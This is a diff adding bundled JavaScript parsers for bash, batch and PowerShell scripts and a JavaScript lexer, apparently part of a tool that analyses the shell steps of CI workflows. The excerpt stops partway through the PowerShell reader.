+    /** Reads up to the next blank or operator that isn't quoted. */
+    readWord() {
+        const { text, scan } = this.from;
+        const start = this.at;
+        const substitutions = [];
+        while (this.at < this.limits.end) {
+            const substitution = scan.substitutions[this.substitution];
+            if (substitution && substitution.start <= this.at) {
+                substitutions.push(this.readSubstitution(substitution));
+                continue;
+            }
+            const char = text[this.at];
+            if (this.isPlain()) {
+                if (char === "\\") {
+                    if (text[this.at + 1] === "\n" && this.at > start)
+                        break;
+                    this.at += 2;
+                    continue;
+                }
+                if (char === "$" && text[this.at + 1] === "{") {
+                    this.skipParameter();
+                    continue;
+                }
+                if (" \t\r\n;&|()<>".includes(char) && !(char === "(" && text[this.at - 1] === "="))
+                    break;
+                if (char === "(") {
+                    // An array: its elements are read as words of one text.
+                    this.skipArray();
+                    continue;
+                }
+            }
+            this.at++;
+        }
+        this.at = Math.max(Math.min(this.at, this.limits.end), start + 1);
+        return { range: { start, end: this.at }, substitutions };
+    }
+    skipParameter() {
+        const close = this.indexNear("}");
+        const end = close < 0 ? this.at + 1 : close;
+        const substitution = this.from.scan.substitutions[this.substitution];
+        this.at = substitution ? Math.min(end + 1, Math.max(substitution.start, this.at + 1)) : end + 1;
+    }
+    /** The next `char` of the range, if it isn't far: looking further for each opening bracket would take forever. */
+    indexNear(char) {
+        const found = this.from.text.slice(this.at, Math.min(this.at + NEAR, this.limits.end)).indexOf(char);
+        return found < 0 ? -1 : this.at + found;
+    }
+    skipArray() {
+        this.at++;
+        const close = this.indexNear(")");
+        const newline = this.indexNear("\n");
+        if (close < 0 || (newline >= 0 && newline < close))
+            return;
+        const substitution = this.from.scan.substitutions[this.substitution];
+        this.at = substitution && substitution.start < close ? Math.max(this.at, substitution.start) : close + 1;
+    }
+    readSubstitution(span) {
+        this.substitution++;
+        let commands = [];
+        const end = Math.min(span.end, this.limits.end);
+        if (this.depth < split_MAX_DEPTH) {
+            const body = { start: span.body.start, end: Math.min(span.body.end, end) };
+            const inside = { ...this.inner, inSubstitution: true, group: undefined };
+            const read = this.splitter.range(body, inside, this.substitution, this.depth + 1);
+            commands = read.commands;
+            this.substitution = read.next;
+        }
+        this.at = Math.max(end, this.at + 1);
+        this.skipSubstitutions();
+        return { span, commands };
+    }
+    begin(start) {
+        this.draft ??= { start, end: start, words: [], redirects: [], closed: undefined };
+        return this.draft;
+    }
+    /** Handles a reserved word at the beginning of a command; false when it isn't one. */
+    reserved(word, range) {
+        if (SEPARATORS.has(word))
+            return true;
+        const opener = OPENERS.get(word);
+        if (opener) {
+            this.openGroup(opener.kind, opener.closer, range.start);
+            return opener.kind !== "for" && opener.kind !== "select" && opener.kind !== "case" ? true : this.skipHeader();
+        }
+        const top = this.open[this.open.length - 1];
+        if (CLOSERS.has(word) && top?.closer === word) {
+            this.closeGroup(range.end);
+            return true;
+        }
+        return false;
+    }
+    /** `for x in …`, `case … in`: the words up to the end of the line belong to no command. */
+    skipHeader() {
+        const { text } = this.from;
+        while (this.at < this.limits.end) {
+            const substitution = this.from.scan.substitutions[this.substitution];
+            if (substitution && substitution.start <= this.at)
+                this.readSubstitution(substitution);
+            else if (this.isPlain() && (text[this.at] === "\n" || text[this.at] === ";"))
+                break;
+            else
+                this.at++;
+        }
+        return true;
+    }
+    openGroup(kind, closer, start) {
+        if (this.open.length >= split_MAX_DEPTH)
+            return;
+        const outer = this.inner;
+        const span = this.from.place(start, start);
+        const group = {
+            kind,
+            ...span,
+            name: undefined,
+            words: [],
+            redirects: [],
+            commands: [],
+            place: outer,
+            pipeline: undefined,
+        };
+        this.collected.groups.push(group);
+        const condition = CONDITIONS.get(kind);
+        const place = {
+            ...outer,
+            group,
+            conditions: condition ? [...outer.conditions, condition] : outer.conditions,
+            inFunction: this.functionName ?? outer.inFunction,
+        };
+        this.functionName = undefined;
+        this.open.push({ kind, closer, start, place, group, stages: this.stages });
+        this.stages = [];
+    }
+    closeGroup(end) {
+        this.linkStages();
+        const { group, start, stages } = this.open.pop();
+        group.end = this.from.place(start, end).end;
+        const outer = this.open[this.open.length - 1];
+        const into = outer ? outer.group.commands : this.commands;
+        for (const command of group.commands)
+            into.push(command);
+        this.stages = stages;
+        this.draft = { start, end, words: [], redirects: group.redirects, closed: group };
+    }
+    openParenthesis() {
+        const { draft } = this;
+        this.at++;
+        if (!draft) {
+            this.openGroup("subshell", ")", this.at - 1);
+        }
+        else if (draft.words.length === 1 && this.from.text[this.at] === ")") {
+            this.functionName = draft.words[0]?.text;
+            this.draft = undefined;
+            this.at++;
+        }
+        else
+            this.endCommand();
+    }
+    closeParenthesis() {
+        this.at++;
+        this.endCommand();
+        if (this.open[this.open.length - 1]?.closer === ")")
+            this.closeGroup(this.at);
+        else
+            this.linkStages();
+    }
+    pipe() {
+        const { text } = this.from;
+        if (text[this.at + 1] === "|") {
+            this.endPipeline();
+            this.at++;
+            return;
+        }
+        this.endCommand();
+        this.at += text[this.at + 1] === "&" ? 2 : 1;
+    }
+    endPipeline() {
+        this.endCommand();
+        this.linkStages();
+        this.at++;
+    }
+    linkStages() {
+        const { stages } = this;
+        if (stages.length > 1) {
+            stages.forEach((stage, index) => {
+                stage.pipeline = { index, stages };
+            });
+        }
+        this.stages = [];
+    }
+    endCommand() {
+        const { draft } = this;
+        this.draft = undefined;
+        if (!draft)
+            return;
+        if (draft.closed) {
+            this.stages.push(draft.closed);
+            return;
+        }
+        const assignments = [];
+        let first = 0;
+        while (first < draft.words.length) {
+            const assignment = this.assignment(draft.words[first]);
+            if (!assignment)
+                break;
+            assignments.push(assignment);
+            first++;
+        }
+        const command = {
+            kind: "command",
+            ...this.from.place(draft.start, draft.end),
+            name: draft.words[first],
+            args: draft.words.slice(first + 1),
+            assignments,
+            redirects: draft.redirects,
+            place: this.inner,
+            pipeline: undefined,
+        };
+        this.collected.commands.push(command);
+        const group = this.open[this.open.length - 1];
+        (group ? group.group.commands : this.commands).push(command);
+        this.stages.push(command);
+    }
+    assignment(word) {
+        const match = split_ASSIGNMENT.exec(word.text);
+        if (!match)
+            return undefined;
+        const value = word.after(match[0].length);
+        return {
+            start: word.start,
+            end: word.end,
+            name: match[1],
+            append: match[2] === "+",
+            values: value ? [value] : [],
+        };
+    }
+    isRedirect() {
+        const { text } = this.from;
+        if (!this.isPlain())
+            return false;
+        let at = this.at;
+        while (at < this.at + 3 && text.charCodeAt(at) >= 48 && text.charCodeAt(at) <= 57)
+            at++;
+        const char = text[at];
+        if (char === "<" || char === ">")
+            return text[at + 1] !== "(" || at > this.at;
+        return char === "&" && at === this.at && text[at + 1] === ">";
+    }
+    redirect() {
+        const { text } = this.from;
+        const start = this.at;
+        const draft = this.begin(start);
+        const match = REDIRECT.exec(text.slice(start, start + 8));
+        this.at += match[0].length;
+        const operatorAt = start + match[1].length;
+        const operator = match[2];
+        while (text[this.at] === " " || text[this.at] === "\t")
+            this.at++;
+        const char = text[this.at] ?? "\n";
+        let target;
+        if (this.at < this.limits.end && (!this.isPlain() || !"\r\n;&|()<>".includes(char))) {
+            const word = this.readWord();
+            target = new SplitWord(this.from, word.range, word.substitutions);
+        }
+        const end = Math.min(this.at, this.limits.end);
+        const heredoc = operator.startsWith("<<") && operator !== "<<<" ? this.splitter.heredocOf(operatorAt) : undefined;
+        draft.redirects.push({
+            ...this.from.place(start, end),
+            operator,
+            descriptor: match[1] === "" ? undefined : match[1],
+            target,
+            heredoc: heredoc && {
+                body: this.from.place(heredoc.body.start, heredoc.body.end),
+                delimiter: target?.literal ?? "",
+                quoted: target !== undefined && /['"\\]/.test(target.text),
+                content: this.heredocContent(heredoc.body),
+            },
+        });
+        draft.end = end;
+    }
+    heredocContent(body) {
+        const { substitutions } = this.from.scan;
+        const inside = [];
+        const first = this.depth < split_MAX_DEPTH ? firstFrom(substitutions, body.start) : substitutions.length;
+        for (let index = first; index < substitutions.length; index++) {
+            const span = substitutions[index];
+            if (span.start >= body.end)
+                break;
+            const last = inside[inside.length - 1];
+            if (last && span.start < last.span.end)
+                continue;
+            const place = { ...this.inner, inSubstitution: true, group: undefined };
+            const { commands } = this.splitter.range(span.body, place, index + 1, this.depth + 1);
+            inside.push({ span, commands });
+        }
+        return new SplitWord(this.from, body, inside);
+    }
+}
+const REDIRECT = /^(\d*)(&>>|&>|<<<|<<-?|<>|<&|>>|>\||>&|<|>)/;
+/** Index of the first range that begins at `offset` or after it. */
+function firstFrom(ranges, offset) {
+    let low = 0;
+    let high = ranges.length;
+    while (low < high) {
+        const middle = (low + high) >> 1;
+        if (ranges[middle].start < offset)
+            low = middle + 1;
+        else
+            high = middle;
+    }
+    return low;
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/bash/read.js
+
+
+
+
+
+const TOP = {
+    conditions: [],
+    inSubstitution: false,
+    inFunction: undefined,
+    group: undefined,
+    nestedIn: undefined,
+};
+/** How deep texts of `bash -c` and `eval` are read. */
+const MAX_NESTING = 4;
+/** The commands of a bash or sh script. Never throws. */
+function readBash(source) {
+    const collected = { commands: [], groups: [] };
+    readText(source, source.masked, unmoved, TOP, collected);
+    // The list grows while nested texts are found.
+    for (let index = 0; index < collected.commands.length; index++) {
+        readNested(source, collected.commands[index], collected);
+    }
+    collected.commands.sort((a, b) => a.start - b.start);
+    return collected;
+}
+/** The commands of a script in a language that resembles a shell; nothing nested is looked into. */
+function readWords(source) {
+    const collected = { commands: [], groups: [] };
+    splitScript(source, source.masked, unmoved, TOP, collected);
+    collected.commands.sort((a, b) => a.start - b.start);
+    return collected;
+}
+function readText(source, masked, placement, place, collected) {
+    const tree = parseBash(masked);
+    if (!tree) {
+        splitScript(source, masked, placement, place, collected);
+        return;
+    }
+    const before = { commands: collected.commands.length, groups: collected.groups.length };
+    try {
+        convertScript(tree, source, masked, placement, place, collected);
+    }
+    catch (error) {
+        // Trees may be deeper than our stack; whatever else goes wrong, the words of the script are still there.
+        if (!(error instanceof RangeError))
+            throw error;
+        collected.commands.length = before.commands;
+        collected.groups.length = before.groups;
+        splitScript(source, masked, placement, place, collected);
+    }
+}
+function readNested(source, command, collected) {
+    const word = nestedText(command);
+    if (!word || nestingOf(command) >= MAX_NESTING)
+        return;
+    const place = {
+        ...TOP,
+        conditions: command.place.conditions,
+        inFunction: command.place.inFunction,
+        nestedIn: command,
+    };
+    const inside = plainBody(word, source);
+    if (inside !== undefined) {
+        readText(source, source.masked.slice(inside.start, inside.end), cutAt(unmoved, inside.start), place, collected);
+    }
+    else if (word.literal !== undefined) {
+        readText(source, word.literal, madeFrom(word), place, collected);
+    }
+}
+function nestingOf(command) {
+    let depth = 0;
+    for (let at = command.place.nestedIn; at; at = at.place.nestedIn)
+        depth++;
+    return depth;
+}
+const SHELLS = new Set(["bash", "sh", "dash", "zsh", "ksh", "ash"]);
+/** The word that a command runs as a script: after `bash -c` (also `-ec`, `-lc`), or the one argument of `eval`. */
+function nestedText(command) {
+    const { name, args } = effectiveCommand(command);
+    const program = name?.literal;
+    if (program === undefined)
+        return undefined;
+    if (program === "eval")
+        return args.length === 1 ? args[0] : undefined;
+    if (!SHELLS.has(program.slice(program.lastIndexOf("/") + 1)))
+        return undefined;
+    for (let index = 0; index < args.length; index++) {
+        const option = args[index]?.literal;
+        if (option === undefined || !/^[-+]/.test(option))
+            return undefined;
+        if (/^-[a-zA-Z]*c[a-zA-Z]*$/.test(option))
+            return args[index + 1];
+        if (/^[-+]o$/.test(option))
+            index++;
+    }
+    return undefined;
+}
+/** The range between the quotes, when the word is one quoted text that means what it says. */
+function plainBody(word, source) {
+    const { start, end } = word;
+    const quote = source.masked[start];
+    if (end - start < 2 || source.masked[end - 1] !== quote)
+        return undefined;
+    const body = source.masked.slice(start + 1, end - 1);
+    const isPlain = quote === "'" ? !body.includes("'") : quote === '"' && !/["\\$`]/.test(body);
+    return isPlain ? { start: start + 1, end: end - 1 } : undefined;
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/cmd/read.js
+
+
+/** Commands and quotes of a batch script, found by one tolerant pass. Never throws. */
+function readCmd(source) {
+    return new CmdReader(source).run();
+}
+const read_TOP = {
+    conditions: [],
+    inSubstitution: false,
+    inFunction: undefined,
+    group: undefined,
+    nestedIn: undefined,
+};
+const read_VARIABLE = /%([A-Za-z_#$@][^%\s:=]{0,100})(:[^%\n]{0,200})?%|!([A-Za-z_#$@][^!\s:=]{0,100})(:[^!\n]{0,200})?!|%%?(~[a-z]*)?([A-Za-z0-9*])/iy;
+const read_REDIRECT = /([0-9]?)(>>|>|<)(&[0-9])?/y;
+const read_ASSIGNMENT = /^\s*(?:\/[aApP]\s+)?"?([^=\s"]+)=/;
+const read_MAX_DEPTH = 100;
+const MAX_HEADER = 1000;
+class CmdReader {
+    source;
+    text;
+    recorder = new RegionRecorder();
+    commands = [];
+    groups = [];
+    open = [];
+    stages = [];
+    draft;
+    isConditional = false;
+    at = 0;
+    constructor(source) {
+        this.source = source;
+        this.text = source.masked;
+    }
+    run() {
+        const { text } = this;
+        while (this.at < text.length) {
+            const char = text[this.at];
+            if (" \t\r,;=".includes(char))
+                this.at++;
+            else if (char === "\n") {
+                this.endPipeline();
+                this.isConditional = false;
+                this.at++;
+            }
+            else if (char === "^" && /[\r\n]/.test(text[this.at + 1] ?? ""))
+                this.at += text[this.at + 1] === "\r" ? 3 : 2;
+            else if (!this.draft && this.comment())
+                continue;
+            else if (char === "&" || char === "|")
+                this.operator(char);
+            else if (char === "(" && !this.draft?.words.length)
+                this.openGroup();
+            else if (char === ")" && this.open.length > 0)
+                this.closeGroup();
+            else if (this.redirectAt())
+                this.redirect();
+            else
+                this.word();
+        }
+        this.endPipeline();
+        while (this.open.length > 0)
+            this.closeGroup();
+        this.commands.sort((a, b) => a.start - b.start);
+        return { commands: this.commands, groups: this.groups, regions: this.recorder.finish(text.length) };
+    }
+    get place() {
+        const group = this.open[this.open.length - 1]?.group;
+        if (!group && !this.isConditional)
+            return read_TOP;
+        const conditions = group?.place.conditions ?? [];
+        return { ...read_TOP, group, conditions: this.isConditional ? [...conditions, "if-body"] : conditions };
+    }
+    /** `rem …` and `:: …` up to the end of the line; a label too. */
+    comment() {
+        const { text, at } = this;
+        const isComment = text[at] === ":" || /^@?rem(?:\s|$)/i.test(text.slice(at, at + 5));
+        if (!isComment)
+            return false;
+        this.recorder.enter(at, "comment");
+        const end = text.indexOf("\n", at);
+        this.at = end < 0 ? text.length : end;
+        this.recorder.enter(this.at, "none");
+        return true;
+    }
+    operator(char) {
+        const isDouble = this.text[this.at + 1] === char;
+        if (char === "|" && !isDouble)
+            this.endCommand();
+        else {
+            this.endPipeline();
+            if (isDouble)
+                this.isConditional = true;
+        }
+        this.at += isDouble ? 2 : 1;
+    }
+    openGroup() {
+        const start = this.at++;
+        if (this.open.length >= read_MAX_DEPTH)
+            return;
+        const group = {
+            kind: "block",
+            start,
+            end: start,
+            name: undefined,
+            words: [],
+            redirects: this.draft?.redirects ?? [],
+            commands: [],
+            place: this.place,
+            pipeline: undefined,
+        };
+        this.draft = undefined;
+        this.groups.push(group);
+        this.open.push({ group, stages: this.stages });
+        this.stages = [];
+    }
+    closeGroup() {
+        this.endCommand();
+        this.linkStages();
+        this.at = Math.min(this.at + 1, this.text.length);
+        const { group, stages } = this.open.pop();
+        group.end = this.at;
+        const outer = this.open[this.open.length - 1]?.group.commands;
+        if (outer)
+            for (const command of group.commands)
+                outer.push(command);
+        this.stages = stages;
+        this.draft = { start: group.start, end: this.at, words: [], redirects: group.redirects, closed: group };
+    }
+    begin() {
+        this.draft ??= { start: this.at, end: this.at, words: [], redirects: [], closed: undefined };
+        return this.draft;
+    }
+    redirectAt() {
+        read_REDIRECT.lastIndex = this.at;
+        return read_REDIRECT.test(this.text);
+    }
+    redirect() {
+        const draft = this.begin();
+        const start = this.at;
+        read_REDIRECT.lastIndex = start;
+        const match = read_REDIRECT.exec(this.text);
+        this.at += match[0].length;
+        while (this.text[this.at] === " " || this.text[this.at] === "\t")
+            this.at++;
+        const hasTarget = !match[3] && this.at < this.text.length && !"\r\n&|()<>".includes(this.text[this.at]);
+        const target = hasTarget ? this.readWord() : undefined;
+        draft.redirects.push({
+            start,
+            end: this.at,
+            operator: match[3] ? ">&" : match[2],
+            descriptor: match[1] === "" ? undefined : match[1],
+            target,
+            heredoc: undefined,
+        });
+        draft.end = this.at;
+    }
+    word() {
+        const draft = this.draft;
+        if (draft?.closed) {
+            // `) else (`: the group is over.
+            this.endCommand();
+        }
+        const start = this.at;
+        const word = this.readWord();
+        const isFirst = this.draft === undefined || this.draft.words.length === 0;
+        const keyword = isFirst ? word.text.toLowerCase().replace(/^@/, "") : "";
+        if (keyword === "if" || keyword === "for" || keyword === "else") {
+            this.header(keyword);
+            return;
+        }
+        this.draft ??= { start, end: start, words: [], redirects: [], closed: undefined };
+        this.draft.words.push(word);
+        this.draft.end = word.end;
+    }
+    /** Goes over the condition of `if` and the set of `for`: what follows is a command of its own. */
+    header(keyword) {
+        this.draft = undefined;
+        this.isConditional = true;
+        if (keyword === "else")
+            return;
+        const line = this.lineEnd();
+        if (keyword === "for") {
+            const found = /\bdo\b/i.exec(this.text.slice(this.at, line));
+            this.skipTo(found ? this.at + found.index + 2 : line);
+            return;
+        }
+        const condition = /^\s*(?:\/i\s+)?(?:not\s+)?(?:(?:exist|defined|errorlevel)\s+(?:"[^"\n]*"|\S+)|(?:"[^"\n]*"|[^\s"=]+)\s*(?:==|\s(?:equ|neq|lss|leq|gtr|geq)\s)\s*(?:"[^"\n]*"|\S+))/i.exec(this.text.slice(this.at, line));
+        if (condition)
+            this.skipTo(this.at + condition[0].length);
+    }
+    /** The end of the line, or a place in it that no person's condition reaches. */
+    lineEnd() {
+        const found = this.text.slice(this.at, this.at + MAX_HEADER).indexOf("\n");
+        return found < 0 ? Math.min(this.at + MAX_HEADER, this.text.length) : this.at + found;
+    }
+    /** Moves on, and notes quotes on the way. */
+    skipTo(end) {
+        while (this.at < end) {
+            if (this.text[this.at] === '"')
+                this.quote(end);
+            else
+                this.at++;
+        }
+    }
+    quote(limit) {
+        const close = this.text.slice(this.at + 1, limit).search(/["\n]/);
+        const end = close < 0 ? limit : this.at + 1 + close + (this.text[this.at + 1 + close] === '"' ? 1 : 0);
+        this.recorder.enter(this.at, "double");
+        this.at = end;
+        this.recorder.enter(end, "none");
+    }
+    readWord() {
+        const { text } = this;
+        const start = this.at;
+        let isQuoted = false;
+        while (this.at < text.length) {
+            const char = text[this.at];
+            if (char === "\n")
+                break;
+            if (char === '"') {
+                if (!isQuoted)
+                    this.recorder.enter(this.at, "double");
+                isQuoted = !isQuoted;
+                this.at++;
+                if (!isQuoted)
+                    this.recorder.enter(this.at, "none");
+                continue;
+            }
+            if (!isQuoted) {
+                if (char === "^" && !/[\r\n]/.test(text[this.at + 1] ?? "\n")) {
+                    this.at += 2;
+                    continue;
+                }
+                if (" \t\r^&|<>".includes(char) || (char === ")" && this.open.length > 0))
+                    break;
+            }
+            this.at++;
+        }
+        if (isQuoted)
+            this.recorder.enter(this.at, "none");
+        this.at = Math.min(Math.max(this.at, start + 1), text.length);
+        return new CmdWord(this.source, { start, end: this.at });
+    }
+    endPipeline() {
+        this.endCommand();
+        this.linkStages();
+    }
+    linkStages() {
+        const { stages } = this;
+        if (stages.length > 1) {
+            stages.forEach((stage, index) => {
+                stage.pipeline = { index, stages };
+            });
+        }
+        this.stages = [];
+    }
+    endCommand() {
+        const { draft } = this;
+        this.draft = undefined;
+        if (!draft)
+            return;
+        if (draft.closed) {
+            this.stages.push(draft.closed);
+            return;
+        }
+        const [name, ...args] = draft.words;
+        const command = {
+            kind: "command",
+            start: draft.start,
+            end: draft.end,
+            name,
+            args,
+            assignments: name && /^@?set$/i.test(name.text) ? this.assignments(args) : [],
+            redirects: draft.redirects,
+            place: this.place,
+            pipeline: undefined,
+        };
+        this.commands.push(command);
+        this.open[this.open.length - 1]?.group.commands.push(command);
+        this.stages.push(command);
+    }
+    /** `set NAME=value with blanks`, `set "NAME=value"`. */
+    assignments(args) {
+        const first = args[0];
+        const last = args[args.length - 1];
+        if (!first || !last)
+            return [];
+        const text = this.text.slice(first.start, last.end);
+        const match = read_ASSIGNMENT.exec(text.slice(0, 1000));
+        if (!match)
+            return [];
+        const { start } = first;
+        const value = new CmdWord(this.source, { start: start + match[0].length, end: last.end });
+        return [
+            { start, end: last.end, name: match[1], append: false, values: value.end > value.start ? [value] : [] },
+        ];
+    }
+}
+class CmdWord {
+    source;
+    start;
+    end;
+    #parts;
+    constructor(source, span) {
+        this.source = source;
+        this.start = span.start;
+        this.end = span.end;
+    }
+    get text() {
+        return this.source.text.slice(this.start, this.end);
+    }
+    get parts() {
+        this.#parts ??= partsOf(this.source, this.start, this.end);
+        return this.#parts;
+    }
+    get literal() {
+        return literalOf(this.parts);
+    }
+}
+function partsOf(source, start, end) {
+    const text = source.masked;
+    const parts = [];
+    let quoted = "none";
+    let value = "";
+    let valueStart = start;
+    let at = start;
+    const flush = () => {
+        if (value !== "")
+            appendLiteral(parts, source, value, valueStart, at, quoted);
+        value = "";
+    };
+    while (at < end) {
+        const char = text[at];
+        if (char === '"') {
+            flush();
+            quoted = quoted === "none" ? "double" : "none";
+            valueStart = ++at;
+            continue;
+        }
+        read_VARIABLE.lastIndex = at;
+        const match = char === "%" || char === "!" ? read_VARIABLE.exec(text) : null;
+        if (match && at + match[0].length <= end) {
+            flush();
+            const name = match[1] ?? match[3] ?? match[6];
+            const operator = match[2] ?? match[4] ?? match[5];
+            parts.push({ kind: "variable", start: at, end: at + match[0].length, quoted, name, operator, operand: [] });
+            at += match[0].length;
+            valueStart = at;
+            continue;
+        }
+        if (char === "^" && quoted === "none" && at + 1 < end)
+            at++;
+        value += text[at];
+        at++;
+    }
+    flush();
+    return parts;
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/javascript/lex.js
+
+
+/**
+ * String literals, templates, regular expressions and comments of a JavaScript program. Never throws.
+ *
+ * @see ECMAScript, section 12 "Lexical Grammar"
+ */
+function lexJavaScript(source) {
+    return new JavaScriptLexer(source).run();
+}
+/** A `/` after one of these words begins a regular expression. */
+const BEFORE_REGEX = new Set([
+    "return",
+    "typeof",
+    "case",
+    "in",
+    "of",
+    "delete",
+    "void",
+    "throw",
+    "new",
+    "do",
+    "else",
+    "await",
+    "yield",
+    "instanceof",
+]);
+const IDENTIFIER = /[A-Za-z0-9_$\u0080-\uffff]+/y;
+const lex_MAX_DEPTH = 200;
+/** Longer ones are divisions on one long line. */
+const MAX_REGEX = 2000;
+class JavaScriptLexer {
+    source;
+    text;
+    recorder = new RegionRecorder();
+    strings = [];
+    templates = [];
+    at = 0;
+    /** Would a `/` here begin a regular expression? */
+    isOperandNext = true;
+    constructor(source) {
+        this.source = source;
+        this.text = source.masked;
+    }
+    run() {
+        const { text } = this;
+        while (this.at < text.length) {
+            const template = this.templates[this.templates.length - 1];
+            if (template?.braces === -1)
+                this.templateText(template);
+            else
+                this.code(template);
+        }
+        while (this.templates.length > 0)
+            this.endTemplate(text.length);
+        this.strings.sort((a, b) => a.start - b.start);
+        return { regions: this.recorder.finish(text.length), strings: this.strings };
+    }
+    get around() {
+        return this.templates.length > 0 ? "template-expression" : "none";
+    }
+    code(template) {
+        const { text, at } = this;
+        const char = text[at];
+        if (char === "'" || char === '"')
+            this.string(char);
+        else if (char === "`")
+            this.openTemplate();
+        else if (char === "/")
+            this.slash();
+        else if (char === "{" || char === "}") {
+            if (template && char === "}" && template.braces === 0) {
+                template.braces = -1;
+                this.recorder.enter(at, "template");
+            }
+            else if (template)
+                template.braces += char === "{" ? 1 : -1;
+            this.isOperandNext = true;
+            this.at++;
+        }
+        else if (char === ")" || char === "]") {
+            this.isOperandNext = false;
+            this.at++;
+        }
+        else if (/\s/.test(char))
+            this.at++;
+        else {
+            IDENTIFIER.lastIndex = at;
+            const word = IDENTIFIER.exec(text)?.[0];
+            this.at += word?.length ?? 1;
+            this.isOperandNext = word === undefined || BEFORE_REGEX.has(word);
+        }
+    }
+    string(quote) {
+        const { text } = this;
+        const start = this.at;
+        this.recorder.enter(start, quote === "'" ? "single" : "double");
+        let end = start + 1;
+        while (end < text.length && text[end] !== quote && text[end] !== "\n")
+            end += text[end] === "\\" ? 2 : 1;
+        const bodyEnd = Math.min(end, text.length);
+        this.at = text[bodyEnd] === quote ? bodyEnd + 1 : bodyEnd;
+        this.recorder.enter(this.at, this.around);
+        this.add(start, start + 1, bodyEnd, quote, quote === "'" ? "single" : "double", true);
+        this.isOperandNext = false;
+    }
+    openTemplate() {
+        this.recorder.enter(this.at, "template");
+        if (this.templates.length < lex_MAX_DEPTH)
+            this.templates.push({ start: this.at, hasFields: false, braces: -1 });
+        this.at++;
+    }
+    templateText(template) {
+        const { text } = this;
+        while (this.at < text.length) {
+            const char = text[this.at];
+            if (char === "\\")
+                this.at += 2;
+            else if (char === "`") {
+                this.at++;
+                this.endTemplate(this.at);
+                return;
+            }
+            else if (char === "$" && text[this.at + 1] === "{") {
+                this.at += 2;
+                template.hasFields = true;
+                template.braces = 0;
+                this.isOperandNext = true;
+                this.recorder.enter(this.at, "template-expression");
+                return;
+            }
+            else
+                this.at++;
+        }
+        this.at = Math.min(this.at, text.length);
+    }
+    endTemplate(end) {
+        const { start, hasFields, braces } = this.templates.pop();
+        const isClosed = braces === -1 && end - start > 1 && this.text[end - 1] === "`";
+        this.add(start, Math.min(start + 1, end), isClosed ? end - 1 : end, "`", "template", !hasFields, end);
+        this.recorder.enter(end, this.around);
+        this.isOperandNext = false;
+    }
+    add(start, bodyStart, bodyEnd, quote, kind, mayBeStatic, end = this.at) {
+        const isStatic = mayBeStatic && !holdsExpression(this.source.expressions, start, end);
+        const body = this.text.slice(bodyStart, bodyEnd);
+        this.strings.push({
+            start,
+            end,
+            body: { start: bodyStart, end: bodyEnd },
+            kind,
+            quote,
+            value: isStatic ? decode(body) : undefined,
+        });
+    }
+    slash() {
+        const { text, at } = this;
+        const next = text[at + 1];
+        if (next === "/" || next === "*") {
+            this.recorder.enter(at, "comment");
+            const close = next === "/" ? text.indexOf("\n", at) : text.indexOf("*/", at + 2);
+            this.at = close < 0 ? text.length : next === "/" ? close : close + 2;
+            this.recorder.enter(this.at, this.around);
+        }
+        else if (this.isOperandNext)
+            this.regex();
+        else {
+            this.isOperandNext = true;
+            this.at++;
+        }
+    }
+    regex() {
+        const { text } = this;
+        const start = this.at;
+        let isClass = false;
+        let at = start + 1;
+        const limit = Math.min(text.length, start + MAX_REGEX);
+        while (at < limit && text[at] !== "\n") {
+            const char = text[at];
+            if (char === "\\")
+                at++;
+            else if (char === "[")
+                isClass = true;
+            else if (char === "]")
+                isClass = false;
+            else if (char === "/" && !isClass)
+                break;
+            at++;
+        }
+        if (text[at] !== "/") {
+            // A division after all.
+            this.at = start + 1;
+            return;
+        }
+        this.recorder.enter(start, "regex");
+        IDENTIFIER.lastIndex = at + 1;
+        this.at = at + 1 + (IDENTIFIER.exec(text)?.[0].length ?? 0);
+        this.recorder.enter(this.at, this.around);
+        this.isOperandNext = false;
+    }
+}
+const ESCAPES = new Map([
+    ["n", "\n"],
+    ["r", "\r"],
+    ["t", "\t"],
+    ["\n", ""],
+]);
+function decode(body) {
+    if (!body.includes("\\"))
+        return body;
+    return body.replace(/\\([\s\S])/g, (_, char) => ESCAPES.get(char) ?? char);
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/pwsh/read.js
+
+
+/** Commands and quotes of a PowerShell script, found by one tolerant pass. Never throws. */
+function readPwsh(source) {
+    return new PwshReader(source).run();
+}
+const pwsh_read_TOP = {
+    conditions: [],
+    inSubstitution: false,
+    inFunction: undefined,
+    group: undefined,
+    nestedIn: undefined,
+};
+/** Statements that begin with a word and have blocks; the condition is that of their blocks. */
+const KEYWORDS = new Map([
+    ["if", "if-body"],
+    ["elseif", "if-body"],
+    ["else", "else-body"],
+    ["for", "loop-body"],
+    ["foreach", "loop-body"],
+    ["while", "loop-body"],
+    ["do", "loop-body"],
+    ["until", undefined],
+    ["switch", "case-body"],
+    ["function", undefined],
+    ["filter", undefined],
+    ["try", undefined],
+    ["catch", "else-body"],
+    ["finally", undefined],
+    ["trap", "else-body"],
+    ["param", undefined],
+    ["begin", undefined],
+    ["process", undefined],
+    ["end", undefined],
+]);
+/** Words before an expression or a command that change nothing about what it is. */
+const PREFIXES = new Set(["return", "throw", "exit"]);
+const pwsh_read_MAX_DEPTH = 100;
+const pwsh_read_VARIABLE = /\$(?:\{([^}\n]{1,200})\}|((?:[A-Za-z]+:)?[A-Za-z_][A-Za-z0-9_]*|[$?^]))/y;
+const SPLAT = /@[A-Za-z_][A-Za-z0-9_]*/y;
+const pwsh_read_REDIRECT = /([1-6*]?)(>>|>)(&[12])?/y;
+class PwshReader {
+    source;
+    text;
+    recorder = new RegionRecorder();
+    commands = [];
+    groups = [];
+    at = 0;
+    depth = 0;
+    constructor(source) {
+        this.source = source;
+        this.text = source.masked;
+    }
+    run() {
+        // A closing bracket without an opening one ends nothing.
+        while (this.at < this.text.length) {
+            this.statements(pwsh_read_TOP, "", []);
+            this.at++;
+        }
+        this.commands.sort((a, b) => a.start - b.start);
+        return { commands: this.commands, groups: this.groups, regions: this.recorder.finish(this.text.length) };
+    }
+    /** Reads statements up to `closer`, which is left to the caller. */
+    statements(place, closer, into) {
+        const { text } = this;
+        let stages = [];
+        let draft;
+        let condition;
+        const endCommand = () => {
+            if (draft) {
+                const command = this.finish(draft, place);
+                into.push(command);
+                stages.push(command);
+            }
+            draft = undefined;
+        };
+        const endPipeline = () => {
+            endCommand();
+            const all = stages;
+            if (all.length > 1)
+                all.forEach((stage, index) => {
+                    stage.pipeline = { index, stages: all };
+                });
+            stages = [];
+        };
